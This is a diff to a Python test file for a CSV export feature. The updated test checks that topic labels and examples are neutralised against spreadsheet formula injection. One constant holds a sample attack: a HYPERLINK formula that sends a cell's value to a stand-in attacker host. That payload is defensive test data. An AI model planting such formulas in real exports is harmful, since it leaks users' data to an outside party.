@@ -4,10 +4,13 @@ from __future__ import annotations
 
 import csv
 import io
+from datetime import datetime, timezone
 
 import pytest
 
-from assistant.insights.exports import FORMULA_STARTS, csv_text, groups_csv, spreadsheet_safe
+from assistant.insights.exports import FORMULA_STARTS, csv_text, spreadsheet_safe, topics_csv
+from assistant.insights.indicators import QuestionFacts
+from assistant.insights.quality import topic_quality
 from assistant.insights.topics import Group
 
 ATTACK = '=HYPERLINK("http://pirate.example/?v="&A2;"Voir la réponse")'
@@ -33,6 +36,7 @@ def test_csv_text_neutralises_every_cell_and_round_trips():
 
 def test_the_topics_export_neutralises_labels_and_examples():
     groups = [Group("-Autres : dde", 2, (ATTACK, "exiger un label ?"), (7, 9))]
-    header, row = list(csv.reader(io.StringIO(groups_csv(groups))))
-    assert header == ["sujet", "questions", "identifiants", "exemples"]
-    assert row == ["'-Autres : dde", "2", "7 9", "'" + ATTACK + " | exiger un label ?"], row
+    facts = [QuestionFacts(i, "q", "received", datetime(2026, 3, 2, tzinfo=timezone.utc)) for i in (7, 9)]
+    header, row = list(csv.reader(io.StringIO(topics_csv(topic_quality(groups, facts)))))
+    assert header[:4] == ["sujet", "questions", "identifiants", "exemples"]
+    assert row[:4] == ["'-Autres : dde", "2", "7 9", "'" + ATTACK + " | exiger un label ?"], row
